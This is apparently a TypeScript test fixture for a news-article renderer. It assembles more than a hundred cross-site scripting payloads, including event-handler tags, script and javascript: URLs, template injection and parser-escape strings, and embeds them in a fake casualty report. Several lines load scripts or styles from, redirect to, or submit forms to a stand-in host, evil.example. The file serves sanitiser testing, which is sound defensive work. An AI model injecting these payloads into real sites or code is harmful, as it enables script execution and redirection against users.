/** What somebody might put into an article to have it run: each says in its own way that it ran. */
const RUN = "window.ran=(window.ran||0)+1;alert(1)";

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "iframe",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "details open",
  "object",
  "marquee",
];
const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onbegin",
  "onpageshow",
];

const HANDLED = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}="${RUN}">`));

const OTHERS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  `<svg><use href="https://evil.example/x.svg#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<style>@import url("https://evil.example/x.css")</style>`,
  `<style>body{display:none}</style>`,
  `<p style="background:url(https://evil.example/x.png)">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">46 killed</a>`,
  `<a href="JaVaScRiPt:${RUN}">46 killed</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">46 killed</a>`,
  `<form action="https://evil.example/"><button>46 killed</button></form>`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `--><img src=x onerror="${RUN}">`,
  `]]><img src=x onerror="${RUN}">`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `&lt;img src=x onerror=&quot;${RUN}&quot;&gt;`,
  `\u202e<img src=x onerror="${RUN}">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

/** More than a hundred. */
export const PAYLOADS: readonly string[] = [...HANDLED, ...OTHERS];

/** A report that is nothing but them. */
export const HOSTILE = {
  id: "hostile/../<b>.html?x=1&y=#z",
  title: `Toll rises to 46 ${PAYLOADS[0]}`,
  text: `At least 46 people were killed, the ministry said.\n\n${PAYLOADS.map((each) => `It said 3 people were wounded. ${each}`).join("\n\n")}`,
  published: "2024-03-05",
  publisher: `Evil ${PAYLOADS[80]}`,
  url: "javascript:window.ran=1;alert(1)",
  language: "en",
};
